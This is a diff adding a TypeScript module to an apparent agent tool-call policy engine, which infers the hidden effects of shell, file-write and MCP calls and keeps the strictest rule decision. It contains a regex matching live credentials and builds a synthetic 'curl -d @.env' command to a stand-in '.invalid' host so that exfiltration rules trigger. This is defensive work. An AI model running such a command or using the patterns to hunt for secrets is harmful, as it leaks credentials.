@@ -1,0 +1,134 @@
+// Deciding what a call amounts to: each derived call goes through the same policy set as a call
+// the agent made directly; the strictest decision wins (deny > ask > watch/allow) and its
+// message says which derived call it was about ("writes ~/.bashrc: ...").
+import type { Decision, ToolCall } from '../types.js';
+import type { Effect } from './types.js';
+import { deriveFromCommand, deriveFromWrite, foldSql } from './derive.js';
+
+/** Derived calls of derived calls are followed this deep (an exec of an exec of ...). */
+export const MAX_EFFECT_DEPTH = 3;
+const CACHE_ENTRIES = 4096;
+
+const STRENGTH: Record<string, number> = { allow: 1, watch: 2, ask: 3, webhook: 4, deny: 5 };
+
+export interface DerivedResult {
+  effect: Effect;
+  call: ToolCall;
+  decision: Decision;
+}
+
+/** Effects per command string (they depend on the text only). */
+export class EffectCache {
+  private readonly map = new Map<string, Effect[]>();
+
+  forCommand(command: string): Effect[] {
+    let hit = this.map.get(command);
+    if (!hit) {
+      hit = deriveFromCommand(command);
+      if (this.map.size >= CACHE_ENTRIES) this.map.delete(this.map.keys().next().value!);
+      this.map.set(command, hit);
+    }
+    return hit;
+  }
+}
+
+/** The text a write or edit call puts into its file (content / new_string / contents / text). */
+export function writtenContent(call: ToolCall): string | undefined {
+  for (const src of [call.params, call.input]) {
+    if (!src) continue;
+    for (const k of ['content', 'contents', 'new_string', 'newString', 'text', 'new_str', 'file_text', 'insert_text']) {
+      const v = src[k];
+      if (typeof v === 'string' && v) return v;
+    }
+    const edits = src['edits'];
+    if (Array.isArray(edits)) {
+      const parts = edits.map((e) => (e && typeof e === 'object' ? (e as Record<string, unknown>)['new_string'] : undefined)).filter((x): x is string => typeof x === 'string');
+      if (parts.length) return parts.join('\n');
+    }
+  }
+  return undefined;
+}
+
+/**
+ * Values that are live credentials by their shape (provider token formats, private key blocks,
+ * passwords inside connection URLs, KEY=value lines naming a secret).
+ */
+const SECRET_VALUE = /\b(?:sk_live_[0-9A-Za-z]{8,}|rk_live_[0-9A-Za-z]{8,}|AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}|gh[pousr]_[0-9A-Za-z]{30,}|github_pat_[0-9A-Za-z_]{30,}|glpat-[0-9A-Za-z_-]{20,}|xox[abpr]-[0-9A-Za-z-]{10,}|sk-(?:proj-|ant-)?[0-9A-Za-z_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[0-9A-Za-z]{36})|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----|[a-z][a-z0-9+.-]*:\/\/[^\s:/@"]+:[^\s@/"]{3,}@|\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_KEY|PRIVATE_KEY)[A-Z0-9_]*=[^\s"\\]{6,}/;
+
+/** What an MCP tool call does, read from the operation's name and its usual parameters
+ * (filesystem servers' write_file/read_file/..., database servers' query/execute, fetch servers). */
+function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
+  const p = { ...(call.input ?? {}), ...call.params };
+  const str = (k: string) => (typeof p[k] === 'string' ? (p[k] as string) : undefined);
+  const op = (str('tool') ?? str('name') ?? call.tool.replace(/^mcp[_:-]*/i, '')).toLowerCase();
+  const path = str('path') ?? str('file_path') ?? str('filepath') ?? str('destination') ?? str('target');
+  const content = str('content') ?? str('contents') ?? str('text') ?? str('new_string') ?? str('newText');
+  const out: Effect[] = [];
+  if (path) {
+    const via = `MCP ${op}`;
+    if (/write|create|edit|append|put|save|upload|move|rename|copy/.test(op)) out.push(content ? { tool: 'write', path, content, via: `${via} writes ${path}` } : { tool: 'write', path, via: `${via} writes ${path}` });
+    else if (/delete|remove|unlink|rm/.test(op)) out.push({ tool: 'delete', path, via: `${via} deletes ${path}` });
+    else if (/read|get|cat|view|open|download|head|tail/.test(op)) out.push({ tool: 'read', path, via: `${via} reads ${path}` });
+    if (content && out[0]?.tool === 'write') out.push(...deriveFromWrite(path, content));
+  }
+  const url = str('url') ?? str('uri');
+  if (url && /^[a-z][a-z0-9+.-]*:/i.test(url)) out.push({ tool: 'fetch', url, via: `MCP ${op} reaches ${url}` });
+  const sql = str('sql') ?? str('query') ?? str('statement');
+  if (sql) out.push({ tool: 'exec', command: `psql -c ${JSON.stringify(foldSql(sql))}`, via: `MCP ${op} runs SQL` });
+  // Secrets sent to a destination outside the machine (a repository, a channel, a gist, a mail).
+  const remote = str('owner') ?? str('repo') ?? str('channel') ?? str('channel_id') ?? str('to') ?? str('recipient') ?? str('webhook_url') ?? (/gist|issue|comment|message|post|send|upload|publish|mail/.test(op) ? op : undefined);
+  if (remote) {
+    const text = JSON.stringify(p);
+    const hit = SECRET_VALUE.exec(text);
+    if (hit) out.push({ tool: 'exec', command: `curl -d @.env https://${remote.replace(/[^\w.-]/g, '') || 'remote'}.invalid/`, via: `MCP ${op} sends a secret (${hit[0].slice(0, 12)}...) to ${remote}` });
+  }
+  const cmd = str('command') ?? str('cmd');
+  if (cmd && /exec|run|shell|command|terminal|bash/.test(op)) out.push({ tool: 'exec', command: cmd, via: `MCP ${op} runs` }, ...cache.forCommand(cmd));
+  return out;
+}
+
+export function effectsOf(call: ToolCall, command: string | undefined, path: string | undefined, cache: EffectCache): Effect[] {
+  if (command !== undefined && (call.tool === 'exec' || call.tool.toLowerCase() === 'exec')) return cache.forCommand(command);
+  if (/^mcp(?:$|[_:-])/i.test(call.tool) && call.tool !== 'mcp-destructive') return mcpEffects(call, cache);
+  if (path !== undefined && (call.tool === 'write' || call.tool === 'edit')) {
+    const content = writtenContent(call);
+    return content ? deriveFromWrite(path, content) : [];
+  }
+  return [];
+}
+
+export function derivedCall(base: ToolCall, e: Effect, workdir: string | undefined): ToolCall {
+  const params: Record<string, unknown> = {};
+  if (e.path !== undefined) params['path'] = e.path;
+  if (e.content !== undefined) params['content'] = e.content;
+  if (e.url !== undefined) params['url'] = e.url;
+  if (e.command !== undefined) params['command'] = e.command;
+  const c: ToolCall = { tool: e.tool, agent: base.agent, session: base.session, params };
+  if (workdir !== undefined) c.workdir = workdir;
+  if (base.agentDepth !== undefined) c.agentDepth = base.agentDepth;
+  return c;
+}
+
+/**
+ * Folds the derived decisions into the call's own: a derived decision made by a rule (not the
+ * default action) that is stricter replaces it, with the effect named in the message.
+ */
+export function strictest(own: Decision, derived: DerivedResult[]): Decision {
+  let best = own;
+  let bestEffect: Effect | undefined;
+  for (const r of derived) {
+    const d = r.decision;
+    if (!d.policy) continue;
+    if (r.effect.onlyDeny && d.action !== 'deny') continue;
+    if ((STRENGTH[d.action] ?? 0) > (STRENGTH[best.action] ?? 0)) {
+      best = d;
+      bestEffect = r.effect;
+      if (d.action === 'deny') break;
+    }
+  }
+  if (!bestEffect) return own;
+  const names = [...best.matchedPolicies];
+  for (const n of own.matchedPolicies) if (!names.includes(n)) names.push(n);
+  const message = best.message.startsWith(`${bestEffect.via}: `) ? best.message : `${bestEffect.via}: ${best.message}`;
+  return { ...best, message, matchedPolicies: names };
+}
